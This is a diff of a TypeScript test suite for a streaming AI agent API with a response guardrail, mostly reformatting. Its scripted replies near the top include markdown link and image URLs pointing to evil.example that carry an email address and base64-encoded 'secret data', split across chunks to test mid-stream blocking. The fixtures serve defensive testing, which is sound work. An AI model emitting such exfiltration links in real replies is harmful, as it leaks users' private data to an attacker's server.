@@ -14,8 +14,18 @@ const REFUSAL = 'I can’t share that response: it was withheld by a guardrail.'
 
 /** Replies chosen by the user's message, so every request gets the same answer however often it runs. */
 const REPLIES: Record<string, ScriptedTurn> = {
-  link: { chunks: ['Your order shipped. ', 'Track it [here](https://evil.example/c?em', 'ail=john.doe@example.com) any time. ', 'Thanks.'] },
-  image: { chunks: ['Here is your chart. ', '![c](https://evil.example/p.png?d=c2VjcmV0IGRh', 'dGEgZm9yIHRoZSBhdHRhY2tlcg) ', 'More text that must never be sent. ', 'And more.'] },
+  link: {
+    chunks: ['Your order shipped. ', 'Track it [here](https://evil.example/c?em', 'ail=john.doe@example.com) any time. ', 'Thanks.'],
+  },
+  image: {
+    chunks: [
+      'Here is your chart. ',
+      '![c](https://evil.example/p.png?d=c2VjcmV0IGRh',
+      'dGEgZm9yIHRoZSBhdHRhY2tlcg) ',
+      'More text that must never be sent. ',
+      'And more.',
+    ],
+  },
   slow: { chunks: ['First sentence. ', 'Second sentence. ', 'never sent'] },
   plain: { chunks: ['Hello there. ', 'How can I help?'] },
 };
@@ -33,7 +43,10 @@ function parseSse(text: string): SseEvent[] {
     .map((frame) => {
       const lines = frame.split('\n');
       const event = lines.find((l) => l.startsWith('event: '))?.slice(7) ?? 'message';
-      const data = lines.filter((l) => l.startsWith('data: ')).map((l) => l.slice(6)).join('\n');
+      const data = lines
+        .filter((l) => l.startsWith('data: '))
+        .map((l) => l.slice(6))
+        .join('\n');
       return { event, data: JSON.parse(data) as unknown };
     });
 }
@@ -87,7 +100,13 @@ describe('POST /v1/runs with server-sent events', () => {
     expect(res.headers.get('content-type')).toMatch(/^text\/event-stream/);
     expect(res.headers.get('traceresponse')).toMatch(/^00-[0-9a-f]{32}-[0-9a-f]{16}-[0-9a-f]{2}$/);
     const events = parseSse(await res.text());
-    expect(events.map((e) => e.event).filter((n) => n !== 'guardrail_decision')).toEqual(['run_start', 'text_delta', 'text_delta', 'run_end', 'done']);
+    expect(events.map((e) => e.event).filter((n) => n !== 'guardrail_decision')).toEqual([
+      'run_start',
+      'text_delta',
+      'text_delta',
+      'run_end',
+      'done',
+    ]);
     const done = events.at(-1)?.data as RunResult;
     const text = events.filter((e) => e.event === 'text_delta').map((e) => (e.data as { text: string }).text);
     expect(text).toEqual(['Hello there. ', 'How can I help?']);
@@ -193,7 +212,11 @@ describe('POST /v1/runs streamed: a failure after the stream began', () => {
     const { url } = await server.listen();
     try {
       const body = JSON.stringify({ agent_id: AGENT, input: 'hi' });
-      const streamed = await fetch(`${url}/v1/runs`, { method: 'POST', headers: { 'content-type': 'application/json', accept: 'text/event-stream' }, body });
+      const streamed = await fetch(`${url}/v1/runs`, {
+        method: 'POST',
+        headers: { 'content-type': 'application/json', accept: 'text/event-stream' },
+        body,
+      });
       expect(streamed.status).toBe(200);
       const events = parseSse(await streamed.text());
       expect(events.map((e) => e.event)).toEqual(['run_start', 'error']);
